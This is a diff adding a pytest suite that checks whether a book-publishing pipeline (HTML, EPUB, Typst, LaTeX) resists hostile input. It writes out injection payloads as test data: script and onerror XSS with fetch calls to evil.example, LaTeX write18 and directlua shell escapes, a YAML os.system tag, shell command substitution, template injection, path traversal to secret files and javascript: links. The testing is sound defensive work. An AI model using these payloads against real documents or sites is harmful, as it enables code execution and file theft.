@@ -1,0 +1,337 @@
+"""Data and chapters from strangers: text is text or is refused; nothing is executed, nothing of the machine is read."""
+
+from __future__ import annotations
+
+import re
+import subprocess
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import lxml.html
+import pytest
+import yaml
+from playwright.sync_api import Browser
+
+from bilateral.bibliography import read_bibliography
+from bilateral.document import Document
+from bilateral.rules import judge
+from bilateral.validation import validate
+from bilateral.volume import Volume
+from pipeline.conftest import ROOT, Built, SmallVolume, copied_volume
+from tools import need
+
+TOKEN = "mullpomtirgqux"
+"""What stands in a file that nobody may read: it must be nowhere in what is published."""
+CANARY = "executed"
+"""A file that code in a text would make."""
+
+
+def texts(folder: Path) -> list[str]:
+    """Return what a stranger could write into a field, with the paths of a secret file and of a canary."""
+    secret, canary = folder / "secret.txt", folder / CANARY
+    return [
+        f"<script>document.title = '{CANARY}'; fetch('https://evil.example/{CANARY}')</script>",
+        f"<img src=x onerror=\"document.title='{CANARY}'\"><svg onload=\"document.title='{CANARY}'\">",
+        f']]></title></textarea></style><iframe src="file://{secret}"></iframe>',
+        f"\\input{{{secret}}} \\openin5={secret} \\include{{{secret}}} \\verbatiminput{{{secret}}}",
+        f"\\immediate\\write18{{touch {canary}}} ^^5cinput{{{secret}}} \\directlua{{os.execute('touch {canary}')}}",
+        "\\end{document} \\catcode`\\{=12 $$ \\loop\\iftrue\\repeat ## %",
+        f'#read("{secret}") #eval("1") #include "{secret}" #import "@preview/cetz:0.3.4"',
+        f'"); #read("{secret}") // \\u{{22}} ] #panic("{CANARY}") [',
+        f".. include:: {secret}  `x <file://{secret}>`__ :raw-html:`<b>` |x| [1]_",
+        f"```{{include}} {secret} ``` {{download}}`{secret}` {{eval-rst}} {{raw}}`x` ![x]({secret}) (label)=",
+        f"!!python/object/apply:os.system ['touch {canary}'] *alias &anchor <<: {{}}",
+        f"${{HOME}} $(touch {canary}) `touch {canary}` ; touch {canary} | touch {canary}",
+        f"{{{{ 7 * 7 }}}} {{% include '{secret}' %}} {{# x #}} %(title)s {{0}} {{title}}",
+        "\u05d0\u200f\u05d1 ar\u00adbi\u00adtrary e\u0301 \u212b \ufb01",
+        "@misc{x, title = {y}} \\cite{x} TY  - BOOK ER  -",
+        f"../../{CANARY} ..\\..\\{CANARY} /etc/passwd C:\\Windows %2e%2e%2f",
+    ]
+
+
+def free_texts(data: dict[str, Any]) -> Iterator[tuple[dict[str, Any] | list[Any], str | int]]:
+    """Yield the place of each value that may be any text: the model takes a strange one."""
+    strange = "x <b> \\y #z"
+    sources, _ = read_bibliography(ROOT / "tests/volume/references.bib")
+
+    def walk(node: Any) -> Iterator[tuple[dict[str, Any] | list[Any], str | int]]:
+        for key, value in node.items() if isinstance(node, dict) else enumerate(node):
+            if isinstance(value, dict | list):
+                yield from walk(value)
+                continue
+            node[key] = strange
+            document = Document("data/relations.yaml", data, {})
+            read, problems = validate(document)
+            node[key] = value
+            if read and not problems and not list(judge(Volume(read, sources, document))):
+                yield node, key
+
+    return walk(data)
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[SmallVolume, list[str]]:
+    """A volume whose every free text is a hostile one, each another, and these texts."""
+    folder = tmp_path_factory.mktemp("hostile")
+    (folder / "secret.txt").write_text(TOKEN)
+    small = copied_volume(folder / "small")
+    path = small.folder / "data/relations.yaml"
+    data = yaml.load(path.read_text("utf-8"), yaml.BaseLoader)
+    kinds, written = texts(folder), []
+    for number, (node, key) in enumerate(list(free_texts(data))):
+        written.append(f"{kinds[number % len(kinds)]} N{number:03}")
+        node[key] = written[-1]  # type: ignore[index]
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
+    return small, written
+
+
+def assert_harmless(built: Built, words: bytes) -> None:
+    assert built.status == 0, built.said
+    assert TOKEN.encode() not in words
+    assert not list(built.out.parents[1].rglob(CANARY))
+
+
+def test_enough_is_tried(hostile: tuple[SmallVolume, list[str]]) -> None:
+    _, written = hostile
+    assert len(written) > 30
+    assert len({text[:-5] for text in written}) == len(texts(Path()))
+
+
+def test_html_shows_hostile_text_and_runs_nothing(hostile: tuple[SmallVolume, list[str]], browser: Browser) -> None:
+    small, written = hostile
+    built = small.build("html")
+    assert_harmless(built, b"".join(path.read_bytes() for path in built.out.rglob("*") if path.is_file()))
+    shown = " ".join(
+        " ".join(lxml.html.parse(path).getroot().text_content().split()) for path in sorted(built.out.glob("*.html"))
+    )
+    seen = [text for text in written if " ".join(text.split()) in shown]
+    assert len(seen) >= 20
+    tab, asked = browser.new_page(), []
+    tab.on("request", lambda request: asked.append(request.url))
+    for path in sorted(built.out.glob("*.html")):
+        tab.goto(path.as_uri())
+        tab.wait_for_load_state("load")
+        assert CANARY not in tab.title().split()
+    tab.close()
+    assert {url.partition(":")[0] for url in asked} <= {"file", "data"}
+    assert not [url for url in asked if "secret" in url or CANARY in url]
+
+
+def test_epub_holds_hostile_text(hostile: tuple[SmallVolume, list[str]]) -> None:
+    small, _ = hostile
+    built = small.build("epub")
+    names = list(built.out.glob("*.epub"))
+    assert len(names) == 1
+    with zipfile.ZipFile(names[0]) as book:
+        parts = {name: book.read(name) for name in book.namelist()}
+    assert_harmless(built, b"".join(parts.values()))
+    assert not [name for name in parts if ".." in name or name.startswith("/")]
+    pages = [lxml.etree.fromstring(part) for name, part in parts.items() if name.endswith((".xhtml", ".opf", ".ncx"))]
+    assert not [node for page in pages for node in page.iter("{*}script")]
+    assert not [name for page in pages for node in page.iter() for name in node.attrib if str(name).startswith("on")]
+
+
+def test_typst_sets_hostile_text(hostile: tuple[SmallVolume, list[str]]) -> None:
+    need("pdftotext")
+    small, _ = hostile
+    built = small.build("typst")
+    assert built.status == 0, built.said
+    (pdf,) = built.out.glob("*.pdf")
+    assert_harmless(built, _words_of(pdf))
+    assert "#read(" in _words_of(pdf).decode()
+
+
+@pytest.mark.latex
+def test_tex_sets_hostile_text(hostile: tuple[SmallVolume, list[str]]) -> None:
+    need("xelatex", "latexmk", "xindy", "pdftotext")
+    small, _ = hostile
+    built = small.build("latex")
+    assert built.status == 0, built.said
+    make = ["make", "-C", str(built.out), "all-pdf", "LATEXMKOPTS=-quiet -halt-on-error -interaction=nonstopmode"]
+    done = subprocess.run(make, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stdout[-3000:]
+    (pdf,) = built.out.glob("*.pdf")
+    assert_harmless(built, _words_of(pdf))
+
+
+def _words_of(pdf: Path) -> bytes:
+    return subprocess.run(["pdftotext", "-raw", pdf, "-"], check=True, capture_output=True).stdout
+
+
+CHAPTER = r"""
+<script>document.title = 'executed'</script>  %% raw: '<script>
+A <b onclick="x()">bold</b> word.  %% raw: '<b onclick
+
+```{raw} html
+:file: SECRET
+```
+%% disabled
+
+```{raw} latex
+\input{SECRET}
+```
+%% disabled
+
+```{include} SECRET
+```
+%% file not found
+
+```{include} <SECRET>
+```
+%% file: '<SECRET>' is outside
+
+```{include} ../../secret.txt
+:literal:
+```
+%% file: '../../secret.txt' is outside
+
+```{literalinclude} ../../secret.txt
+```
+%% file: '../../secret.txt' is outside
+
+```{literalinclude} chapter.md
+:diff: ../../secret.txt
+```
+%% file: '../../secret.txt' is outside
+
+```{csv-table} Secrets
+:name: table-secrets
+:file: SECRET
+```
+%% file: 'SECRET' is outside
+
+```{csv-table} More secrets
+:name: table-more-secrets
+:url: file://SECRET
+```
+%% file: 'file://SECRET' is outside
+
+```{figure} ../../secret.txt
+:name: figure-secret
+:figwidth: image
+
+A secret.
+```
+%% file: '../../secret.txt' is outside
+
+```{eval-rst}
+.. include:: SECRET
+```
+%% No such file or directory
+
+```{eval-rst}
+.. include:: ../../secret.txt
+```
+%% file: '../../secret.txt' is outside
+
+```{eval-rst}
+.. raw:: html
+
+   <script>1</script>
+```
+%% disabled
+
+```{eval-rst}
+.. role:: hot(raw)
+   :format: html
+
+:hot:`<script>1</script>`
+```
+%% disabled
+
+```{eval-rst}
+.. include:: chapter.md
+   :parser: antigravity
+```
+%% unknown option: "parser"
+
+```{eval-rst}
+`click <javascript:alert(1)>`__
+```
+%% address: not to 'javascript:'
+
+```{eval-rst}
+`here <JaVaScRiPt:alert(1)>`__
+```
+%% address: not to 'JaVaScRiPt:'
+
+```{eval-rst}
+`there <data:text/html,x>`__
+```
+%% address: not to 'data:'
+
+{download}`a secret <../../secret.txt>`  %% file: '../../secret.txt' is outside
+
+![x](../../secret.txt)  %% file: '../../secret.txt' is outside
+
+![x](https://evil.example/x.png)  %% file: 'https://evil.example/x.png' would be loaded
+
+[x](../../secret.txt)  %% file: '../../secret.txt' is outside
+
+[a file](file://SECRET) [x](javascript:alert(1)) [y](<data:text/html,x>){onclick="x()" style="color: red"}
+
+```{eval-rst}
+.. meta::
+   :http-equiv=refresh: 0;url=https://evil.example/
+```
+%% raw: orders to the browser
+
+A word that is turned TURNaround.  %% character: U+202E
+"""
+
+
+@pytest.fixture(scope="module")
+def refused(tmp_path_factory: pytest.TempPathFactory) -> tuple[Built, dict[int, str]]:
+    """A volume whose chapter does what it may not, built; and what is to be said, by line, of which thing."""
+    folder = tmp_path_factory.mktemp("refused")
+    (folder / "secret.txt").write_text(f"{TOKEN}\n\n({TOKEN})=\n# {TOKEN}\n")
+    small = copied_volume(folder / "volume/small")
+    lines: list[str] = []
+    expected: dict[int, str] = {}
+    start = 0
+    before = (small.folder / "chapter.md").read_text("utf-8").count("\n")
+    for line in CHAPTER.replace("SECRET", str(folder / "secret.txt")).replace("TURN", "\u202e").splitlines():
+        text, mark, said = line.partition("%% ")
+        if text.strip() and not start:
+            start = len(lines) + 1
+        if mark:
+            expected[before + (start or len(lines))] = said
+            start = 0
+        lines.append(text.rstrip())
+    small.append("chapter.md", "\n".join(lines) + "\n")
+    return small.build("html", "--keep-going"), expected
+
+
+def test_a_chapter_cannot_read_files_or_bring_code(refused: tuple[Built, dict[int, str]]) -> None:
+    built, expected = refused
+    assert built.status != 0
+    assert "Traceback" not in built.said
+    missing = []
+    for line, said in expected.items():
+        kind, _, words = said.rpartition(": ") if said[:4] in ("raw:", "file", "addr", "char") else ("", "", said)
+        found = [
+            text
+            for text in built.said.splitlines()
+            if words in text and (re.search(rf":({line}|{line + 1}):", text) or not kind)
+        ]
+        if not found or (kind and not any(text.endswith(f"[guard.{kind.rstrip(':')}]") for text in found)):
+            missing.append(f"{line}: {said}")
+    assert not missing, "\n".join([*missing, built.said])
+
+
+def test_nothing_of_it_is_in_the_pages(refused: tuple[Built, dict[int, str]]) -> None:
+    built, _ = refused
+    files = [path for path in built.out.rglob("*") if path.is_file()]
+    assert (built.out / "chapter.html") in files
+    for path in files:
+        assert TOKEN.encode() not in path.read_bytes(), path
+    page = (built.out / "chapter.html").read_text("utf-8")
+    tree = lxml.html.fromstring(page)
+    assert not [
+        link for link in tree.iter("a") if re.match(r"\s*(javascript|data|file):", link.get("href", ""), re.IGNORECASE)
+    ]
+    assert not [node for node in tree.iter() if any(name.startswith("on") for name in node.attrib)]
+    assert "evil.example" not in page
+    assert "document.title = 'executed'" not in page
